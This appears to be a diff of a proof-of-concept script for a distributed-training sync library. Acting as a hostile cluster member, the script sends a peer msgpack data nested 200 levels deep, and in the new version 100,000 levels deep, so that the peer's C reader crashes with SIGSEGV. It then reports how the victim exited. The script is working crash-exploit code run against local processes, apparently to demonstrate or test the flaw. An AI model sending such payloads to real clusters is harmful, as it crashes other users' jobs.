@@ -1,7 +1,7 @@
-"""As a member gives the other one a state that nests 200 deep, 1 KB; says how the other one's process ended.
+"""As a member gives the other one what nests deep, in the framing of states and in a former one; says how it ended.
 
 It starts a server, and the other member, in its own container. Where each level is one more call in C, the reader ends
-by SIGSEGV.
+by SIGSEGV: in the former framing with 200 levels, 1 KB. In today's each is a list that says that it has one item.
 """
 
 import struct
@@ -16,8 +16,11 @@ from client.transport import ZmqTransport
 from statsd_bn.errors import StatsdBNError
 
 ENDPOINT = "tcp://127.0.0.1:5555"
-DEPTH = 200
-EXTENSION = 1
+FORMER_DEPTH = 200
+DEPTH = 100_000
+
+# The extension of a list, in both.
+LIST = 1
 
 # As an older version wrote a state: a structure, then its arrays. It dies of reading the structure.
 NO_ARRAYS = struct.pack("<I", 1) + b"\x90"
@@ -29,7 +32,7 @@ VICTIM = """
 import sys, types
 import client
 from statsd_bn.errors import StatsdBNError
-with client.connect(sys.argv[1], job="digits", member=0, world_size=2, deadline=60.0, policy="elastic"):
+with client.connect(sys.argv[1], job=sys.argv[2], member=0, world_size=2, deadline=60.0, policy="elastic"):
     loop = types.SimpleNamespace(train_loader=None, val_loader=None, test_loader=None)
     try:
         print(client.DDPHandler(loop).mp_sync([1.0]))
@@ -41,25 +44,42 @@ with client.connect(sys.argv[1], job="digits", member=0, world_size=2, deadline=
 def main() -> None:
     """Attacks, and prints what became of the other member."""
     with subprocess.Popen([sys.executable, "-m", "server", "--bind", ENDPOINT]) as server:
-        with subprocess.Popen([sys.executable, "-c", VICTIM, ENDPOINT], stdout=subprocess.PIPE, text=True) as victim:
-            give(victim)
+        endings = {give("former", framed(former_structure()) + NO_ARRAYS), give("digits", framed(structure()))}
         server.terminate()
+    print("; ".join(sorted(endings)))
 
 
-def give(victim: "subprocess.Popen[str]") -> None:
-    """Gives the victim what it reads, and prints how it ended."""
-    packed = msgpack.packb([])
-    for _ in range(DEPTH):
-        packed = msgpack.packb([msgpack.ExtType(EXTENSION, packed)])
-    who = Member("digits", "world", 0, 1, 2, SECONDS, "hostile", 1)
-    try:
-        with Connection(ZmqTransport(ENDPOINT), who) as hostile:
-            hostile.gather("mp_sync()", struct.pack("<I", len(packed)) + packed + NO_ARRAYS)
-    except StatsdBNError as error:
-        # A victim that has ended takes its epoch with it.
-        print(f"the attacker: {error}", file=sys.stderr)
-    said, _ = victim.communicate(timeout=SECONDS)
-    print(f"exit code {victim.returncode}: {said.strip()}")
+def framed(structure: bytes) -> bytes:
+    """Returns a structure behind its length."""
+    return struct.pack("<I", len(structure)) + structure
+
+
+def former_structure() -> bytes:
+    """Returns lists in lists, each of which holds the next one."""
+    packed: bytes = msgpack.packb([])
+    for _ in range(FORMER_DEPTH):
+        packed = msgpack.packb([msgpack.ExtType(LIST, packed)])
+    return packed
+
+
+def structure() -> bytes:
+    """Returns lists in lists, each of which says that the next one follows."""
+    one: bytes = msgpack.packb(msgpack.ExtType(LIST, struct.pack("<I", 1)))
+    return one * DEPTH + msgpack.packb(None)
+
+
+def give(job: str, data: bytes) -> str:
+    """Gives a victim what it reads, and returns how it ended."""
+    command = [sys.executable, "-c", VICTIM, ENDPOINT, job]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as victim:
+        try:
+            with Connection(ZmqTransport(ENDPOINT), Member(job, "world", 0, 1, 2, SECONDS, "hostile", 1)) as hostile:
+                hostile.gather("mp_sync()", data)
+        except StatsdBNError as error:
+            # A victim that has ended takes its epoch with it.
+            print(f"the attacker: {error}", file=sys.stderr)
+        said, _ = victim.communicate(timeout=SECONDS)
+        return f"exit code {victim.returncode}: {said.strip()}"
 
 
 if __name__ == "__main__":
